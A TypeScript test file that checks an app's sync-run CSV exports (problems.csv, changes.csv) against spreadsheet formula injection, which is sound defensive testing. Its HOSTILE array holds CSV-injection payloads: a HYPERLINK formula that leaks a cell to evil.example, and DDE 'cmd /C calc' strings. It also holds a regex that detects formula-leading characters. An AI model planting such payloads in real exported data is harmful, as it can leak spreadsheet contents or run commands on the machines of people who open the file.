/**
 * The run pages' CSV downloads, fetched through the real routes with hostile values stored:
 * no cell may reach a spreadsheet as a formula.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import { syncProblems, syncRunItems, syncRuns } from "../../src/db/schema/index.ts";
import { createOrgWithUser, createTestApp, get, signInAs, type TestApp } from "../helpers/app.ts";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
];

let t: TestApp;
let cookie: string;
let runId: string;

beforeAll(async () => {
  t = await createTestApp();
  const admin = await createOrgWithUser(t);
  cookie = await signInAs(t, admin.email);
  const [run] = await t.database.db
    .insert(syncRuns)
    .values({ orgId: admin.orgId, source: "oneroster", trigger: "sync_now", status: "succeeded", finishedAt: new Date() })
    .returning();
  runId = run!.id;
  await t.database.db.insert(syncProblems).values(
    HOSTILE.map((value, index) => ({
      runId,
      orgId: admin.orgId,
      severity: "warning" as const,
      file: "users.csv",
      line: index + 2,
      field: value,
      sourceId: value,
      message: value,
    })),
  );
  await t.database.db.insert(syncRunItems).values(
    HOSTILE.map((value, index) => ({
      runId,
      orgId: admin.orgId,
      entity: "learner" as const,
      status: "New" as const,
      action: "create" as const,
      sourceId: `${value}-${index}`,
      label: value,
      after: { changes: [], flags: [value] },
    })),
  );
});
afterAll(() => t.close());

async function download(name: string): Promise<string[][]> {
  const response = await get(t, `/sync/runs/${runId}/${name}`, cookie);
  expect(response.status).toBe(200);
  expect(response.headers.get("Content-Type")).toContain("text/csv");
  return parse(await response.text(), { bom: true, relax_column_count: true }) as string[][];
}

/** A cell a spreadsheet would run: it starts with one of the characters OWASP lists (or a full-width one). */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

test("problems.csv: every hostile cell starts with a quote and keeps its text", async () => {
  const rows = (await download("problems.csv")).slice(1);
  expect(rows).toHaveLength(HOSTILE.length);
  for (const [index, row] of rows.entries()) {
    const [, , , field, , sourceId, message] = row;
    for (const cell of [field, sourceId, message]) {
      expect(runsAsFormula(cell!)).toBe(false);
      expect(cell).toBe(`'${HOSTILE[index]}`);
    }
  }
});

test("changes.csv: learner names, ids and flags are neutralised the same way", async () => {
  const rows = (await download("changes.csv")).slice(1);
  expect(rows).toHaveLength(HOSTILE.length);
  const cells = rows.flatMap(([label, sourceId, , , , , flags]) => [label!, sourceId!, flags!]);
  expect(cells.filter(runsAsFormula)).toEqual([]);
  expect(rows.map((row) => row[0]).sort()).toEqual(HOSTILE.map((value) => `'${value}`).sort());
});

test("every cell is quoted, so a semicolon inside a value cannot open a new cell", async () => {
  const text = (await (await get(t, `/sync/runs/${runId}/problems.csv`, cookie)).text()).replace(/^\uFEFF/, "");
  expect(text.split("\n")[0]).toBe('"severity","file","line","field","entity","source_id","message"');
  expect(text).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`);
});
